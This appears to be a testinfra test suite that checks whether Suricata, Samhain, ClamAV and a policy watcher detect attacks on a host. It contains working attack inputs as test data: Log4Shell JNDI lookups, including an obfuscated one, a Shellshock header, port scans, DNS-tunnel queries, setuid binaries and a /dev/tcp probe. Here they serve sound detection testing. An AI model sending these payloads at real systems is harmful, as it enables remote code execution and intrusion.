"""Attacks, and what is said of them, and when."""

import base64
import hashlib
import json
import shlex
import socket
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import crafted
import pytest
from testinfra.host import Host

EVE = "/var/log/suricata/eve.json"
METRICS = Path(__file__).parents[3] / "monitoring/roles/node_exporter/files/node_metrics.py"
# In two parts, so that this file is none itself.
EICAR = r"X5O!P%@AP[4\PZX54(P^)7CC)7}$" + "EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"


def until(seconds: float, look: Callable[[], Any]) -> float:
    """Seconds until something was seen."""
    begin = time.monotonic()
    while time.monotonic() - begin < seconds:
        if look():
            return time.monotonic() - begin
        time.sleep(0.3)
    raise AssertionError(f"nothing within {seconds} s")


@pytest.fixture
def address(host: Host) -> str:
    return str(host.ansible.get_variables()["ansible_host"])


@pytest.fixture
def journal(host: Host) -> Callable[[str], str]:
    """What a program wrote to the journal from now on."""
    begin = host.check_output("date +%s")
    return lambda program: str(host.run(f"journalctl --quiet -o cat --since=@{begin} -t {program}").stdout)


@pytest.fixture
def alerts(host: Host) -> Callable[[], set[int]]:
    """Numbers of the rules that raised alerts from now on."""
    size = int(host.check_output(f"stat --format=%s {EVE}"))

    def read() -> set[int]:
        lines = host.check_output(f"tail --bytes=+{size + 1} {EVE}").splitlines()
        return {json.loads(line)["alert"]["signature_id"] for line in lines}

    return read


def test_suricatas_counters_and_the_scans_result_can_be_read(host: Host) -> None:
    program = shlex.quote(METRICS.read_text())

    def counted() -> bool:
        host.check_output(f"mkdir --parents /run/figures; python3 -c {program} suricata /run/figures")
        lines = host.file("/run/figures/suricata.prom").content_string.splitlines()
        found = dict(line.split(" ") for line in lines if not line.startswith("#"))
        assert found["suricata_up"] == "1"
        return int(found.get("suricata_decoder_pkts_total", 0)) > 0

    # Suricata sums its counters up each 30 s.
    assert until(45, counted) < 45
    host.check_output(f"python3 -c {program} scan /run/figures")


def test_suricata_and_samhain_run_with_few_rights_and_little_memory(host: Host) -> None:
    for program, mebibytes in (("suricata", 150), ("samhain", 60)):
        pid = host.check_output(f"systemctl show --property=MainPID --value {program}.service")
        status = dict(line.split(":", 1) for line in host.file(f"/proc/{pid}/status").content_string.splitlines())
        assert int(status["VmRSS"].split()[0]) / 1024 < mebibytes, program
        assert status["NoNewPrivs"].strip() == "1"
    assert host.check_output("ps -o user= -C Suricata-Main").strip() == "suricata"


def test_alerts_are_for_those_who_collect_logs(host: Host) -> None:
    file = host.file(EVE)
    assert (file.user, file.group, file.mode) == ("suricata", "adm", 0o640)
    assert host.check_output("stat --format='%G %a' /var/log/suricata") == "adm 2750"


def test_only_suricata_comes_from_backports(host: Host) -> None:
    listed = "dpkg-query --show --showformat='${Package} ${Version}\\n' | grep bpo12 | cut -d' ' -f1"
    assert set(host.check_output(listed).split()) == {"suricata", "libhtp2"}


def test_a_crafted_packet_is_seen(address: str, alerts: Callable[[], set[int]]) -> None:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
        sender.sendto(b"GET / HTTP/1.1\r\nUser-Agent: ${jndi:ldap://203.0.113.5/a}\r\n\r\n", (address, 9))
    assert until(10, lambda: 9_000_011 in alerts()) < 10


def test_a_port_scan_is_seen(address: str, alerts: Callable[[], set[int]]) -> None:
    for port in range(7000, 7060):
        with socket.socket() as caller:
            caller.setblocking(False)
            caller.connect_ex((address, port))
    assert until(10, lambda: 9_000_001 in alerts()) < 10


def test_connections_to_what_a_node_serves_are_no_scan(address: str, alerts: Callable[[], set[int]]) -> None:
    for _ in range(60):
        with socket.socket() as caller:
            caller.setblocking(False)
            caller.connect_ex((address, 6443))
    time.sleep(3)
    assert alerts() == set()


def _looked_at(host: Host, folder: Path, name: str, packets: list[bytes]) -> set[int]:
    """Numbers of the rules that a file of packets raises."""
    crafted.write(folder / name, packets)
    data = base64.b64encode((folder / name).read_bytes()).decode()
    place = f"/root/{name}"
    host.run_expect([0], f"mkdir -p {place} && echo {data} | base64 -d > {place}/pcap")
    suricata = f"suricata -c /etc/suricata/suricata.yaml --runmode single -r {place}/pcap -l {place} -k none"
    home = "--set vars.address-groups.HOME_NET=203.0.113.99/32"
    host.run_expect([0], f"{suricata} {home} -S /etc/suricata/refsys.rules")
    lines = host.check_output(f"cat {place}/eve.json").splitlines()
    host.run_expect([0], f"rm -r {place}")
    return {json.loads(line)["alert"]["signature_id"] for line in lines}


def test_every_rule_finds_what_it_is_for(host: Host, tmp_path: Path) -> None:
    name = ".".join(["a" * 60, "b" * 60, "c" * 30, "tunnel.example"])
    packets = [
        *(crafted.tcp(0x02, port) for port in range(7000, 7040)),
        crafted.tcp(0x00, 7100),
        crafted.tcp(0x29, 7101),
        *(crafted.tcp(0x02, 22, source_port=50_000 + number) for number in range(25)),
        *crafted.request(b"GET / HTTP/1.1\r\nHost: a\r\nX-A: ${jndi:ldap://b/c}\r\n\r\n", 8000, 41_000),
        *crafted.request(b"GET / HTTP/1.1\r\nHost: a\r\nX-A: ${${lower:j}ndi:ldap://b/c}\r\n\r\n", 8001, 41_001),
        *crafted.request(b"GET / HTTP/1.1\r\nHost: a\r\nUser-Agent: () { :; }; id\r\n\r\n", 8002, 41_002),
        *(crafted.ping(1400) for _ in range(4)),
        *(crafted.query(name, number) for number in range(4)),
    ]
    rules = host.check_output("grep -o 'sid:[0-9]*' /etc/suricata/refsys.rules | cut -d: -f2")
    assert _looked_at(host, tmp_path, "attack", packets) == {int(number) for number in rules.split()}


def test_what_is_harmless_raises_nothing(host: Host, tmp_path: Path) -> None:
    packets = [
        *crafted.request(b"GET /a?b=${c} HTTP/1.1\r\nHost: a\r\nUser-Agent: curl/8\r\n\r\n", 8000, 41_000),
        *(crafted.ping(56) for _ in range(5)),
        *(crafted.query("a-service.with-a-name.infra.svc.cluster.local", number) for number in range(5)),
        *(crafted.tcp(0x02, 443, source_port=50_000 + number) for number in range(100)),
    ]
    assert _looked_at(host, tmp_path, "harmless", packets) == set()


def test_rules_that_do_not_load_fail_the_test_before_they_are_taken(host: Host) -> None:
    test = "suricata -T --set outputs.0.eve-log.enabled=no -l /var/tmp -c /etc/suricata/suricata.yaml -S /root/wrong"
    host.run_expect([0], "echo 'alert tcp any any -> any any (msg:\"x\"; nonsense; sid:1;)' > /root/wrong")
    assert host.run(test).rc != 0
    host.run_expect([0], "rm /root/wrong")


@pytest.fixture
def program(host: Host) -> Iterator[str]:
    """A program that nobody needs, put back in the end."""
    path = "/usr/bin/factor"
    host.run_expect([0], f"cp --archive {path} /root/kept")
    yield path
    host.run_expect([0], f"mv /root/kept {path}")


def test_a_changed_program_is_told(host: Host, program: str, journal: Callable[[str], str]) -> None:
    host.run_expect([0], f"echo >> {program}")
    look = f"POLICY [ReadOnly] C--------S>, path=<{program}>"
    assert until(15, lambda: look in journal("samhain")) < 15


@pytest.mark.parametrize("path", ["/usr/local/bin/tried", "/etc/tried", "/usr/lib/tried", "/opt/tried"])
def test_a_new_setuid_program_is_told(host: Host, path: str, journal: Callable[[str], str]) -> None:
    host.run_expect([0], f"install --mode=4755 /bin/true {path}")
    try:
        look = f"POLICY ADDED>, path=<{path}>, mode_new=<-rwsr-xr-x>"
        assert until(30, lambda: look in journal("samhain")) < 30
    finally:
        host.run_expect([0], f"rm {path}")


def test_a_program_that_becomes_setuid_is_told(host: Host, program: str, journal: Callable[[str], str]) -> None:
    host.run_expect([0], f"chmod u+s {program}")
    assert until(30, lambda: "mode_new=<-rwsr-xr-x>" in journal("samhain")) < 30


def test_the_same_content_written_anew_is_no_change(host: Host, journal: Callable[[str], str]) -> None:
    host.run_expect([0], "cp --preserve=mode,ownership /etc/issue /etc/.new && mv /etc/.new /etc/issue")
    time.sleep(3)
    assert "path=</etc/issue>" not in journal("samhain")


def test_what_is_wanted_becomes_the_baseline(host: Host, journal: Callable[[str], str]) -> None:
    host.run_expect([0], "echo wanted > /etc/wanted.conf")
    until(15, lambda: "path=</etc/wanted.conf>" in journal("samhain"))
    assert "/etc/wanted.conf" in host.run_expect([1], "refsys-integrity check").stdout
    assert host.check_output("refsys-integrity renew") == "renewed"
    assert host.check_output("refsys-integrity renew") == "unchanged"
    host.run_expect([0], "refsys-integrity check")
    host.run_expect([0], "rm /etc/wanted.conf && refsys-integrity renew")


def test_watching_takes_no_time(host: Host) -> None:
    def ticks() -> int:
        pid = host.check_output("systemctl show --property=MainPID --value samhain.service")
        return sum(map(int, host.file(f"/proc/{pid}/stat").content_string.rpartition(")")[2].split()[11:13]))

    def is_idle() -> bool:
        before = ticks()
        time.sleep(5)
        return ticks() - before <= 5  # one percent of a processor

    # It may still look at what the tests before changed.
    until(60, is_idle)


def test_the_scan_finds_a_virus_and_leaves_the_rest_alone(host: Host, journal: Callable[[str], str]) -> None:
    host.run_expect([0], f"printf %s '{EICAR}' > /srv/eicar.txt; echo harmless > /srv/clean.txt")
    try:
        host.run_expect([0], "systemctl start clamav-scan.service")
        until(5, lambda: "/srv/eicar.txt: Eicar-Test-Signature" in journal("clamav-scan"))
        assert journal("clamav-scan").strip().endswith("FOUND")
        assert "clean.txt" not in journal("clamav-scan")
    finally:
        host.run_expect([0], "rm /srv/eicar.txt /srv/clean.txt")


def test_the_scan_comes_by_night_and_nothing_stays_in_memory(host: Host) -> None:
    assert host.service("clamav-scan.timer").is_running
    assert not host.service("clamav-freshclam.service").is_running
    assert not host.service("clamav-daemon.service").is_running


def test_connections_that_policies_refuse_are_told_of(host: Host, journal: Callable[[str], str]) -> None:
    chain = "cali-fw-cali" + hashlib.sha1(b"processing.mallory", usedforsecurity=False).hexdigest()[:11]
    rule = "-d 192.0.2.1 -m comment --comment 'cali:x' -m comment --comment 'Drop if no policies passed packet' -j DROP"
    host.check_output(f"iptables -N {chain} && iptables -A {chain} {rule} && iptables -I OUTPUT -j {chain}")
    try:
        host.run("timeout 8 bash -c '</dev/tcp/192.0.2.1/389'")
        until(20, lambda: "packets from pod processing/mallory" in journal("policy-watch"))
    finally:
        host.check_output(f"iptables -D OUTPUT -j {chain} && iptables -F {chain} && iptables -X {chain}")
    assert host.service("policy-watch").is_enabled
